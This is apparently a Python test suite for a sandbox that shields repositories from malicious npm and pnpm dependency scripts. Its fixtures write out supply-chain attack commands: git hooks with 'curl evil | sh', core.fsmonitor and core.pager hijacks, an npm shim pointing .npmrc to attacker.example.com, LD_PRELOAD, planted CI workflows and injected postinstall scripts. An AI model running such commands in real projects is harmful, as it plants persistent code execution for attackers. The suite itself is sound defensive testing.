"""Each rule that lets honest work through, tried by a dependency: it fakes being the manager, plants
what the rule recognises, or waits until the manager writes."""

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
import beside_bare  # noqa: E402
from harness import test  # noqa: E402
from honest import FIXTURES  # noqa: E402
from npm_registry import NpmRegistry  # noqa: E402

FACTS = {"stops": "commit, attribution", "event": "change.protected"}

SH = "#!/bin/sh\n"


class Scene:
    """A repository whose dependency `evil` runs a script as it is installed."""

    def __init__(self, t, script, **members):
        self.t = t
        self.registry = NpmRegistry()
        self.registry.add("evil", "1.0.0", {"index.js": "", "attack.sh": SH + script},
                          scripts={"postinstall": "sh attack.sh"})
        beside_bare.repository(t, **{"package.json": beside_bare.manifest(
            t, dependencies={"evil": "1.0.0"}, **members), ".gitignore": "node_modules\n.vscode\n"})
        self.env = {"npm_config_registry": self.registry.url(), **beside_bare.GIT_VARIABLES}
        self.options = ["--allow-host", self.registry.url().split("/")[2]]

    def attack(self, *command, changed):
        """Bare (control): `changed` differs afterwards. In the sandbox it does not. Returns that run."""
        path = self.t.project / changed
        read = lambda: path.read_bytes() if path.is_file() else None  # noqa: E731
        copy = self.t.base / "copy"
        self.t.bare("cp", "-a", self.t.project, copy)
        before = read()
        self.t.bare(*command, env=self.env)
        self.t.true(read() != before, f"control: {changed} by {command}")
        self.t.bare("rm", "-rf", self.t.project)
        copy.rename(self.t.project)
        result = self.t.sandbox(*command, env=self.env, options=self.options)
        self.t.equal(read(), before, f"{changed}: {result}")
        return result


def alerts(result):
    return {e["details"].get("path"): e for e in result.events if e["severity"] == "alert"}


# ── what the user asks for ──────────────────────────────────────────────────────────────────────


@test(time_limit=120)
def git_of_a_script(t):
    """a dependency's script that has git write the configuration is no user who typed git"""
    scene = Scene(t, 'cd "$INIT_CWD" && /usr/bin/git config core.fsmonitor "touch pwned"\n')
    result = scene.attack("npm", "install", changed=".git/config")
    t.contains(alerts(result)[".git/config"]["details"]["reason"], "core.fsmonitor", result)


@test(time_limit=120)
def script_beside_a_release(t):
    """a release tool that also plants a script: an alert, and nothing of the release without the rest"""
    registry = NpmRegistry()
    tool = ("#!/usr/bin/env node\nconst fs = require('fs')\nconst own = JSON.parse(fs.readFileSync('package.json'))\n"
            "own.version = '2.0.0'\nown.scripts = {postinstall: 'echo evil'}\n"
            "fs.writeFileSync('package.json', JSON.stringify(own))\nfs.writeFileSync('CHANGELOG.md', 'two\\n')\n")
    registry.add("changeset", "1.0.0", {"cli.js": tool}, more={"bin": {"changeset": "cli.js"}})
    scene = Scene(t, "true\n")
    scene.env["npm_config_registry"] = registry.url()
    scene.options = ["--allow-host", registry.url().split("/")[2]]
    result = scene.attack("npx", "--yes", "changeset", "version", changed="package.json")
    t.true(alerts(result).get("package.json"), result)
    t.true(not (t.project / "CHANGELOG.md").exists(), result)
    held = {e["details"]["path"]: e["details"]["reason"] for e in result.of_type("change.held")}
    t.contains(held.get("CHANGELOG.md", ""), "belongs to what is held", result)


@test(time_limit=120)
def branch_beside_a_version(t):
    """npm version whose own script installs: a dependency's script that makes a branch makes none"""
    scene = Scene(t, 'cd "$INIT_CWD" && /usr/bin/git branch evil\n', scripts={"version": "npm install"})
    scene.attack("npm", "version", "patch", changed=".git/refs/heads/evil")


@test(time_limit=120, event="change.held")
def archive_beside_a_pack(t):
    """npm pack whose own script installs: a dependency's script that leaves an archive leaves none"""
    scene = Scene(t, 'echo x > "$INIT_CWD/app-9.9.9.tgz"\n', scripts={"prepack": "npm install"})
    scene.attack("npm", "pack", changed="app-9.9.9.tgz")


def by_a_program_of_a_dependency(what, script, changed):
    def body(t):
        scene = Scene(t, "exit 0\n", scripts={"version": "tool"})
        t.write("node_modules/tool/tool.sh", SH + script, 0o755)
        t.write("node_modules/.bin/tool", SH + "exec sh node_modules/tool/tool.sh\n", 0o755)
        scene.attack("npm", "version", "patch", changed=changed)

    body.__doc__ = f"npm version whose own script runs a dependency's program: {what}"
    test(time_limit=120, event="change.held|change.protected")(body)


by_a_program_of_a_dependency("a script in package.json is not taken over",
                             "sed 's/\"scripts\": *{/&\"postinstall\": \"evil\",/' package.json > /tmp/p && cp /tmp/p package.json\n",
                             "package.json")
by_a_program_of_a_dependency("nor is a hook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push\n",
                             ".git/hooks/pre-push")


@test(time_limit=120)
def hook_beside_a_commit(t):
    """git commit with a hook that runs a dependency's program: this one leaves no hook of its own, and no configuration"""
    beside_bare.repository(t, **{"a.txt": "a\n"})
    t.write("node_modules/tool/tool.sh", SH + "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push\n"
            "/usr/bin/git config core.pager evil\n", 0o755)
    t.write(".git/hooks/pre-commit", SH + "sh node_modules/tool/tool.sh\n", 0o755)
    read = lambda: ((t.project / ".git/hooks/pre-push").exists(), "evil" in (t.project / ".git/config").read_text())  # noqa: E731
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.write("a.txt", "b\n")
    t.succeeded(t.bare("git", "commit", "-qam", "second", env=beside_bare.GIT_VARIABLES))
    t.equal(read(), (True, True), "control")
    t.bare("rm", "-rf", t.project)
    (t.base / "copy").rename(t.project)
    t.write("a.txt", "b\n")
    result = t.sandbox("git", "commit", "-qam", "second", env=beside_bare.GIT_VARIABLES)
    t.equal(read(), (False, False), result)


@test(time_limit=120)
def settings_of_another_value(t):
    """an editor's settings in another order are no change; with a key twice, of which readers take either, they are"""
    script = """printf '{"b": 1, "task": "evil", "task": "good"}' > "$INIT_CWD/.vscode/settings.json"\n"""
    scene = Scene(t, script)
    t.write(".vscode/settings.json", '{"task": "good", "b": 1}')
    scene.attack("npm", "install", changed=".vscode/settings.json")


@test(event="none")
def fake_manager(t):
    """an npm in node_modules/.bin is a dependency's program, and nothing is asked for by it"""
    beside_bare.manifest(t)
    t.write("node_modules/.bin/npm", SH + "echo registry=http://attacker.example.com > .npmrc\n", 0o755)
    env = {"PATH": f"{t.project}/node_modules/.bin:{t.env['PATH']}"}
    t.succeeded(t.bare("npm", "init", "-y", env=env))
    t.true((t.project / ".npmrc").exists(), "control")
    (t.project / ".npmrc").unlink()
    result = t.sandbox("npm", "init", "-y", env=env)
    t.true(not (t.project / ".npmrc").exists(), result)


@test
def program_with_a_known_name(t):
    """a program of the project that is called git is not the system's"""
    t.write("git", SH + "echo planted > .envrc\n", 0o755)
    t.succeeded(t.bare("./git", "commit"))
    t.true((t.project / ".envrc").exists(), "control")
    (t.project / ".envrc").unlink()
    result = t.sandbox("./git", "commit")
    t.true(not (t.project / ".envrc").exists(), result)
    t.true(".envrc" in alerts(result), result)


def starts_a_program(how):
    def body(t):
        beside_bare.repository(t, **{"a.txt": "a\n", "evil.sh": SH + "echo planted > .envrc\n"})
        (t.project / "evil.sh").chmod(0o755)
        if how == "hook":
            t.write(".git/hooks/pre-commit", SH + "./evil.sh\n", 0o755)
        else:
            t.succeeded(beside_bare.git(t, "config", "core.fsmonitor", "./evil.sh"))
        t.write("a.txt", "changed\n")
        t.bare("git", "commit", "-qam", "second")
        t.true((t.project / ".envrc").exists(), "control")
        (t.project / ".envrc").unlink()
        t.write("a.txt", "again\n")
        result = t.sandbox("git", "commit", "-qam", "third")
        t.true(not (t.project / ".envrc").exists(), result)
        t.true(".envrc" in alerts(result), result)

    body.__doc__ = f"what git starts by {how} is not what the user typed"
    test(body)


for one in ("hook", "core.fsmonitor"):
    starts_a_program(one)


@test
def loaded_into_git(t):
    """a git with a library preloaded that it did not have from outside is not the system's git"""
    t.write("run.sh", "LD_PRELOAD=./evil.so git config core.pager ./evil.sh\n")
    beside_bare.repository(t, **{"a.txt": "a\n"})
    result = t.sandbox("sh", "run.sh")
    t.contains(alerts(result)[".git/config"]["details"]["reason"], "core.pager", result)


@test(time_limit=120)
def waits_for_the_manager(t):
    """what a script puts into the index for the manager's own commit is not committed"""
    script = ('cd "$INIT_CWD" && mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml && '
              "git add -f .github\n")
    scene = Scene(t, "exit 0\n", scripts={"preversion": "npm rebuild evil"})
    scene.registry.add("evil", "1.0.0", {"index.js": "", "attack.sh": SH + script},
                       scripts={"postinstall": "sh attack.sh"})
    t.succeeded(t.bare("npm", "install", "--ignore-scripts", env=scene.env))
    t.succeeded(beside_bare.git(t, "add", "-A"))
    t.succeeded(beside_bare.git(t, "commit", "-qm", "lock"))
    result = scene.attack("npm", "version", "patch", changed=".git/refs/heads/main")
    t.true(".git/index" in alerts(result), f"{alerts(result).keys()} {result}")
    t.equal(json.loads((t.project / "package.json").read_text())["version"], "1.0.0", "whole or not at all")


# ── git hooks ───────────────────────────────────────────────────────────────────────────────────

HUSKY = ("git config core.hooksPath .husky/_ && mkdir -p .husky/_ && "
         "printf '#!/usr/bin/env sh\\n. \"$(dirname \"$0\")/h\"' > .husky/_/pre-commit && "
         "chmod +x .husky/_/pre-commit\n")


@test(time_limit=120)
def known_hooks_of_a_package(t):
    """hooks as husky writes them are an alert when a dependency's script sets them up"""
    scene = Scene(t, 'cd "$INIT_CWD" && ' + HUSKY)
    result = scene.attack("npm", "install", changed=".husky/_/pre-commit")
    t.true(".git/config" in alerts(result), result)
    t.true(any(str(path).startswith(".husky") for path in alerts(result)), result)


@test(time_limit=120)
def hooks_left_by_a_daemon(t):
    """hooks that something of a dependency's script writes while the project's own script runs are an
    alert"""
    scene = Scene(t, 'cd "$INIT_CWD" && (while [ ! -e started ]; do sleep 0.05; done; ' + HUSKY[:-1] +
                  "; touch planted) >/dev/null 2>&1 &\n",
                  scripts={"prepare": "touch started; while [ ! -e planted ]; do sleep 0.05; done"})
    result = scene.attack("npm", "install", changed=".husky/_/pre-commit")
    t.true(".git/config" in alerts(result), result)


def strange_hook(what, script):
    def body(t):
        beside_bare.repository(t, **{"package.json": beside_bare.manifest(t, scripts={"prepare": "sh x.sh"}),
                                "x.sh": SH + script})
        before = t.fingerprint(t.project / ".git")
        copy = t.base / "copy"
        t.bare("cp", "-a", t.project, copy)
        t.succeeded(t.bare("npm", "install"))
        t.true(t.fingerprint(t.project / ".git") != before, "control")
        t.bare("rm", "-rf", t.project)
        copy.rename(t.project)
        result = t.sandbox("npm", "install", env={"CI": "true"})
        t.equal(t.fingerprint(t.project / ".git"), before, result)
        t.equal(result.code, 122, result)
        t.true(alerts(result), result)

    body.__doc__ = f"{what} is an alert, whoever writes it"
    test(body)


for what, script in (
    ("a hook with one line that no tool writes", HUSKY + "echo 'curl evil | sh' >> .husky/_/pre-commit\n"),
    ("core.hooksPath into node_modules",
     "mkdir -p node_modules/evil; git config core.hooksPath node_modules/evil\n"),
    ("core.hooksPath to a directory that the run makes",
     "mkdir made; echo evil > made/pre-commit; git config core.hooksPath made\n"),
    ("core.hooksPath out of the project", "git config core.hooksPath /tmp/evil\n"),
    ("core.pager beside core.hooksPath", HUSKY + "git config core.pager evil\n"),
    ("a hook of another program", "mkdir -p .git/hooks; printf '#!/usr/bin/env node\\nevil()' > .git/hooks/pre-push\n"),
):
    strange_hook(what, script)


@test(rows="A100")
def directory_of_hooks(t):
    """the directory that core.hooksPath of the project names is a protected place, in builds too"""
    beside_bare.repository(t, **{"package.json": beside_bare.manifest(t), "tools/hooks/pre-commit": SH})
    t.succeeded(beside_bare.git(t, "config", "core.hooksPath", "tools/hooks"))
    before = t.fingerprint()
    result = t.sandbox("sh", "-c", "echo evil >> tools/hooks/pre-commit; echo x > tools/hooks/pre-push")
    t.equal(t.fingerprint(), before, result)
    t.true("tools/hooks/pre-push" in alerts(result), result)


# ── content ─────────────────────────────────────────────────────────────────────────────────────


@test(time_limit=120, rows="A102")
def staged_file(t):
    """a git index with one more entry is no index that was only looked at"""
    scene = Scene(t, 'cd "$INIT_CWD" && echo evil > evil.yml && git add -f evil.yml\n')
    result = scene.attack("npm", "install", changed=".git/index")
    t.true(".git/index" in alerts(result), result)


@test(time_limit=120)
def hidden_from_git(t):
    """an index that tells git to overlook a file is no index that was only looked at"""
    scene = Scene(t, 'cd "$INIT_CWD" && git update-index --assume-unchanged package.json\n')
    result = scene.attack("npm", "install", changed=".git/index")
    t.true(".git/index" in alerts(result), result)


def rewritten_manifest(what, program):
    def body(t):
        registry = NpmRegistry()
        registry.add("evil", "1.0.0", {"index.js": "", "attack.js": f"""
            const fs = require('fs'), file = process.env.INIT_CWD + '/package.json';
            const text = fs.readFileSync(file, 'utf8'), manifest = JSON.parse(text);
            {program}"""}, scripts={"postinstall": "node attack.js"})
        beside_bare.manifest(t, dependencies={"evil": "1.0.0"}, exports={"import": "./a.js", "default": "./b.js"})
        env = {"npm_config_registry": registry.url()}
        t.succeeded(t.bare("npm", "install", "--package-lock-only", "--ignore-scripts", env=env))
        before = (t.project / "package.json").read_bytes()
        t.succeeded(t.bare("npm", "ci", env=env))
        t.true((t.project / "package.json").read_bytes() != before, "control")
        (t.project / "package.json").write_bytes(before)
        result = t.sandbox("npm", "ci", env=env, options=["--allow-host", registry.url().split("/")[2]])
        t.equal((t.project / "package.json").read_bytes(), before, result)
        t.true("package.json" in alerts(result), result)

    body.__doc__ = f"a package.json with {what} does not mean the same"
    test(body, time_limit=120)


for what, program in (
    ("other conditions first", "manifest.exports = {default: './b.js', import: './a.js'};"
     "fs.writeFileSync(file, JSON.stringify(manifest));"),
    ("a name twice", "fs.writeFileSync(file, text.replace('{', '{\"name\": \"other\",'));"),
):
    rewritten_manifest(what, program)


# ── output, new projects ────────────────────────────────────────────────────────────────────────


def program_run_by(*command, **members):
    """A dependency's program, started by the user's own command, plants in protected places, in
    package.json and in the lockfile."""
    plants = ["mkdir -p .vscode .git/hooks; echo x > .vscode/tasks.json", "echo x > .git/hooks/pre-commit",
              "echo x > .envrc", "echo '{\"name\": \"app\", \"scripts\": {\"postinstall\": \"evil\"}}' > package.json"]
    planted = [".vscode/tasks.json", ".git/hooks/pre-commit", ".envrc", "package.json"]

    def body(t):
        text = beside_bare.manifest(t, **members)
        beside_bare.repository(t, **{"package.json": text, ".gitignore": "node_modules\n"})
        t.write("node_modules/tool/package.json", '{"name": "tool", "version": "1.0.0", "bin": "cli.sh"}')
        t.write("node_modules/tool/cli.sh", SH + "; ".join(plants) + "; mkdir -p out; echo x > out/file\n", 0o755)
        (t.project / "node_modules/.bin").mkdir()
        (t.project / "node_modules/.bin/tool").symlink_to("../tool/cli.sh")
        t.bare("cp", "-a", t.project, t.base / "copy")
        t.succeeded(t.bare(*command))
        t.true(all((t.project / path).exists() for path in planted), "control")
        t.bare("rm", "-rf", t.project)
        (t.base / "copy").rename(t.project)
        result = t.sandbox(*command)
        t.equal((t.project / "package.json").read_text(), text, result)
        t.true(not any((t.project / path).exists() for path in planted[:3]), result)
        t.true((t.project / "out/file").exists(), "the output is taken over")
        t.true({".envrc", ".git/hooks/pre-commit"} <= alerts(result).keys(), result)

    body.__doc__ = f"{' '.join(command)}: output is taken over, protected places and package.json are not"
    test(body)


program_run_by("npx", "tool")
program_run_by("npm", "exec", "tool")
program_run_by("npm", "run", "build", scripts={"build": "tool"})
program_run_by("npm", "test", scripts={"test": "tool"})


@test
def creator_in_an_old_project(t):
    """npm create cannot change protected places, or package.json, of a project that is there"""
    text = beside_bare.manifest(t)
    beside_bare.repository(t, **{"package.json": text, ".vscode/settings.json": "{}\n"})
    registry = NpmRegistry()
    registry.add("create-evil", "1.0.0", {"cli.sh": SH + (
        "echo x > .vscode/tasks.json; mkdir -p .claude new/.vscode; echo x > .claude/settings.json; "
        "echo '{\"scripts\": {\"install\": \"evil\"}}' > package.json; echo x > new/.vscode/tasks.json\n")})
    registry.packuments["create-evil"]["versions"]["1.0.0"]["bin"] = {"create-evil": "cli.sh"}
    registry.answers["/create-evil"] = ("application/json",
                                        json.dumps(registry.packuments["create-evil"]).encode())
    env = {"npm_config_registry": registry.url()}
    options = ["--allow-host", registry.url().split("/")[2]]
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare("npm", "create", "--yes", "evil", env=env))
    t.true((t.project / ".claude/settings.json").exists(), "control")
    t.bare("rm", "-rf", t.project)
    (t.base / "copy").rename(t.project)
    result = t.sandbox("npm", "create", "--yes", "evil", env=env, options=options)
    t.equal((t.project / "package.json").read_text(), text, result)
    t.true(not (t.project / ".claude").exists(), result)
    t.true(not (t.project / ".vscode/tasks.json").exists(), result)
    t.true((t.project / "new/.vscode/tasks.json").exists(), "the new directory is as it was made")
    t.true({".vscode/tasks.json", "package.json"} <= alerts(result).keys(), result)


@test(time_limit=120, event="change.held")
def executable_by_a_script(t):
    """a script can make executable what package.json names, and nothing else"""
    scene = Scene(t, 'cd "$INIT_CWD" && chmod +x cli.js other.js\n', bin="cli.js")
    for name in ("cli.js", "other.js"):
        t.write(name, "", 0o644)
    t.succeeded(t.bare("npm", "install", env=scene.env), "control")
    t.true(os.access(t.project / "other.js", os.X_OK), "control")
    for name in ("cli.js", "other.js"):
        (t.project / name).chmod(0o644)
    t.bare("rm", "-rf", "node_modules")
    t.succeeded(t.sandbox("npm", "install", env=scene.env, options=scene.options))
    t.true(os.access(t.project / "cli.js", os.X_OK), "named")
    t.true(not os.access(t.project / "other.js", os.X_OK), "not named")


@test(time_limit=120, rows="A104")
def editor_setting_of_a_package(t):
    """an ignored .vscode/settings.json is an alert when a dependency's script writes it"""
    scene = Scene(t, 'cd "$INIT_CWD" && mkdir -p .vscode && echo "{}" > .vscode/settings.json\n')
    result = scene.attack("npm", "install", changed=".vscode/settings.json")
    t.true(any(str(path).startswith(".vscode") for path in alerts(result)), result)


@test(time_limit=120, event="change.held")
def build_beside(t):
    """a dependency's script has nothing of a project's own script that runs npm run"""
    scene = Scene(t, 'cd "$INIT_CWD" && mkdir -p src && echo evil > src/index.js\n',
                  scripts={"prepare": "npm run build", "build": "true"})
    result = scene.attack("npm", "install", changed="src/index.js")
    t.contains(str([e["details"] for e in result.of_type("change.held")]), "src", result)


# ── git hooks taken over for good, harmless settings, links between targets ─────────────────────

TAKES_HOOKS = 'git_hooks = "commit"\n'


@test(time_limit=120)
def hooks_of_a_package_though_taken_over(t):
    """git_hooks = "commit": hooks as husky writes them, set up by a dependency's script, are an alert all the same"""
    t.write(t.home / ".config/sandbox-run/config.toml", TAKES_HOOKS)
    scene = Scene(t, 'cd "$INIT_CWD" && ' + HUSKY)
    result = scene.attack("npm", "install", changed=".husky/_/pre-commit")
    t.true(".git/config" in alerts(result), result)


@test(time_limit=120)
def own_line_in_a_hook_though_taken_over(t):
    """git_hooks = "commit": a hook with a line that no tool writes is an alert"""
    t.write(t.home / ".config/sandbox-run/config.toml", TAKES_HOOKS)
    script = HUSKY + "echo 'curl evil | sh' >> .husky/_/pre-commit\n"
    beside_bare.repository(t, **{"package.json": beside_bare.manifest(t, scripts={"prepare": "sh x.sh"}), "x.sh": SH + script})
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare("npm", "install"))
    t.contains((t.project / ".husky/_/pre-commit").read_text(), "evil", "control")
    t.bare("rm", "-rf", t.project)
    (t.base / "copy").rename(t.project)
    result = t.sandbox("npm", "install")
    t.true(not (t.project / ".husky/_/pre-commit").exists(), result)
    t.true(alerts(result), result)


def add_setting_test(key, value):
    def body(t):
        scene = Scene(t, f'cd "$INIT_CWD" && git config {key} "{value}"\n')
        result = scene.attack("npm", "install", changed=".git/config")
        t.true(".git/config" in alerts(result), result)

    body.__doc__ = f"{key}, which starts nothing, is an alert from a dependency's script"
    test(body, time_limit=120)


add_setting_test("core.autocrlf", "true")
add_setting_test("user.email", "evil@example.com")


def hides_a_starter(how, lines):
    def body(t):
        text = beside_bare.manifest(t, scripts={"prepare": "sh x.sh"})
        beside_bare.repository(t, **{"package.json": text, "x.sh": SH + lines})
        before = (t.project / ".git/config").read_bytes()
        t.succeeded(t.bare("npm", "install"))
        t.true((t.project / ".git/config").read_bytes() != before, "control")
        (t.project / ".git/config").write_bytes(before)
        result = t.sandbox("npm", "install")
        t.equal((t.project / ".git/config").read_bytes(), before, result)
        t.true(".git/config" in alerts(result), result)

    body.__doc__ = f"a harmless key of .git/config {how} brings no program in"
    test(body, time_limit=120)


hides_a_starter("beside an alias", "git config core.autocrlf false; git config alias.st '!evil'\n")
hides_a_starter("with a section on the same line",
                "printf '[core] autocrlf = false\\n[core] editor = evil\\n' >> .git/config\n")
hides_a_starter("whose value goes on in the next line",
                "printf '[core]\\n\\tautocrlf = fal\\\\\\nse\\n[include]\\n\\tpath = ../evil\\n' >> .git/config\n")


@test(time_limit=120, rows="A080", event="change.held")
def link_into_a_target_and_out_again(t):
    """a link into another target of the command that comes back out of it is held"""
    other = t.home / "other"
    other.mkdir()
    script = f'ln -s "{other}/../.bashrc" out; ln -s ../other/../.bashrc relative; ln -s "{other}/x" known\n'
    t.succeeded(t.bare("sh", "-c", script))
    t.true(all(os.path.islink(t.project / name) for name in ("out", "relative", "known")), "control")
    t.bare("rm", "-f", "out", "relative", "known")
    result = t.sandbox("sh", "-c", script, options=["--rw", other])
    t.true(os.path.islink(t.project / "known"), f"into the other target: {result}")
    for name in ("out", "relative"):
        t.true(not os.path.islink(t.project / name), f"{name}: {result}")
    t.equal({e["details"]["path"] for e in result.of_type("change.held")}, {"out", "relative"}, result)


@test(time_limit=120, rows="A080", event="change.held")
def link_up_into_a_target(t):
    """a relative link into another target of the command is taken over, one beside it is held"""
    other = t.home / "other"
    other.mkdir()
    climb = os.path.relpath(other, t.project)
    script = f"ln -s {climb}/x known; ln -s {os.path.dirname(climb)}/.bashrc out\n"
    result = t.sandbox("sh", "-c", script, options=["--rw", other])
    t.true(os.path.islink(t.project / "known"), f"into the other target: {result}")
    t.true(not os.path.islink(t.project / "out"), result)


@test
def hook_of_a_new_work_tree(t):
    """git worktree add with a hook that runs a dependency's program: no hook and no setting is left in the repository"""
    beside_bare.repository(t, **{"a.txt": "1\n", ".gitignore": "node_modules\n"})
    t.write("node_modules/.bin/evil", SH + (
        f"echo evil > {t.project}/.git/hooks/pre-push; git -C {t.project} config core.pager evil\n"), 0o755)
    t.write(".git/hooks/post-checkout", SH + f"{t.project}/node_modules/.bin/evil\n", 0o755)
    before = (t.project / ".git/config").read_bytes()
    command = ("git", "worktree", "add", "-q", "../tree", "-b", "tree")
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare(*command))
    t.true((t.project / ".git/hooks/pre-push").exists() and (t.project / ".git/config").read_bytes() != before, "control")
    t.bare("rm", "-rf", t.project, t.project.parent / "tree")
    (t.base / "copy").rename(t.project)
    result = t.sandbox(*command)
    t.true(not (t.project / ".git/hooks/pre-push").exists(), result)
    t.equal((t.project / ".git/config").read_bytes(), before, result)
    t.true({".git/hooks/pre-push", ".git/config"} <= set(alerts(result)), f"{set(alerts(result))} {result}")


@test
def named_directory_beside_git(t):
    """what git's own hook writes to protected places of a directory that --rw names is not asked for with the command"""
    beside_bare.repository(t, **{"a.txt": "1\n"})
    other = t.home / "other"
    other.mkdir()
    t.write(".git/hooks/pre-commit", SH + f"mkdir -p {other}/.vscode; echo on > {other}/.vscode/tasks.json\n", 0o755)
    t.write("a.txt", "2\n")
    command = ("git", "commit", "-q", "-a", "-m", "second")
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare(*command, env=beside_bare.GIT_VARIABLES))
    t.true((other / ".vscode/tasks.json").exists(), "control")
    t.bare("rm", "-rf", t.project, other / ".vscode")
    (t.base / "copy").rename(t.project)
    result = t.sandbox(*command, env=beside_bare.GIT_VARIABLES, options=["--rw", other])
    t.true(not (other / ".vscode").exists(), result)
    t.true(any(path and path.startswith(".vscode") for path in alerts(result)), f"{set(alerts(result))} {result}")


@test(event="change.protected")
def beside_a_new_environment(t):
    """python3 -m venv X: a program of the project under that name changes no protected place beside X"""
    program = t.write("bin/python3", SH + (
        'mkdir -p "$3/lib" .github/workflows; echo on > .github/workflows/x.yml; echo x > "$3/lib/x"\n'), 0o755)
    t.succeeded(t.bare(program, "-m", "venv", "made"))
    t.true((t.project / ".github/workflows/x.yml").exists(), "control")
    t.bare("rm", "-r", ".github", "made")
    result = t.sandbox(program, "-m", "venv", "made")
    t.true((t.project / "made/lib/x").exists(), result)
    t.true(not (t.project / ".github").exists(), result)


@test(event="change.protected")
def in_a_directory_that_was_there(t):
    """python3 -m venv X, where X was there before: its workflow and its hooks stay as they were"""
    program = t.write("bin/python3", SH + 'mkdir -p "$3/.github/workflows"; echo on > "$3/.github/workflows/x.yml"\n', 0o755)
    t.write("there/a.txt", "1\n")
    t.succeeded(t.bare(program, "-m", "venv", "there"))
    t.true((t.project / "there/.github/workflows/x.yml").exists(), "control")
    t.bare("rm", "-r", "there/.github")
    result = t.sandbox(program, "-m", "venv", "there")
    t.true(not (t.project / "there/.github").exists(), result)


@test(time_limit=120)
def beside_a_deploy(t):
    """pnpm deploy: a dependency's script makes no workflow, and changes no file that is there"""
    registry = NpmRegistry()
    registry.add("evil", "1.0.0", {"index.js": "", "attack.sh": SH + (
        f'mkdir -p "{t.project}/.github/workflows"; echo on > "{t.project}/.github/workflows/x.yml"\n'
        f'echo evil >> "{t.project}/index.js"\n')}, scripts={"postinstall": "sh attack.sh"})
    t.write("package.json", '{"name": "root", "version": "1.0.0", "private": true}')
    t.write("index.js", "1\n")
    t.write("pnpm-workspace.yaml", "packages:\n  - one\ninjectWorkspacePackages: true\nonlyBuiltDependencies:\n  - evil\n")
    t.write("one/package.json", '{"name": "one", "version": "1.0.0", "dependencies": {"evil": "1.0.0"}}')
    env = {"npm_config_registry": registry.url(), "npm_config_side_effects_cache": "false", "PATH": f"{FIXTURES / 'pnpm10/prefix/bin'}:{t.env['PATH']}"}
    deploy = ("pnpm", "--filter", "one", "deploy", "--prod", "out")
    t.succeeded(t.bare("pnpm", "install", "--ignore-scripts", env=env))
    t.bare("cp", "-a", t.project, t.base / "copy")
    t.succeeded(t.bare(*deploy, env=env))
    t.true((t.project / ".github/workflows/x.yml").exists(), "control")
    t.equal((t.project / "index.js").read_text(), "1\nevil\n", "control")
    t.bare("rm", "-rf", t.project)
    (t.base / "copy").rename(t.project)
    result = t.sandbox(*deploy, env=env, options=["--allow-host", f"localhost:{registry.port}"])
    t.true(result.of_type("script.started"), result)
    t.true(not (t.project / ".github").exists(), result)
    t.equal((t.project / "index.js").read_text(), "1\n", result)


@test(time_limit=120, event="change.held")
def value_of_an_option(t):
    """`append-only` before `install` is an option's value, no script of the project's whose output is taken over"""
    registry = NpmRegistry()
    registry.add("evil", "1.0.0", {"index.js": ""}, scripts={
        "postinstall": f"echo evil >> '{t.project}/index.js'"})
    t.write("package.json", '{"name": "app", "version": "1.0.0", "dependencies": {"evil": "1.0.0"}}')
    t.write("pnpm-workspace.yaml", "onlyBuiltDependencies:\n  - evil\n")
    t.write("index.js", "1\n")
    env = {"npm_config_registry": registry.url(), "npm_config_side_effects_cache": "false",
           "PATH": f"{FIXTURES / 'pnpm10/prefix/bin'}:{t.env['PATH']}"}
    install = ("pnpm", "--reporter", "append-only", "install")
    t.succeeded(t.bare(*install, env=env))
    t.equal((t.project / "index.js").read_text(), "1\nevil\n", "control")
    t.write("index.js", "1\n")
    t.bare("rm", "-rf", "node_modules", "pnpm-lock.yaml")
    result = t.sandbox(*install, env=env, options=["--allow-host", f"localhost:{registry.port}"])
    t.true(result.of_type("script.started"), result)
    t.equal((t.project / "index.js").read_text(), "1\n", result)
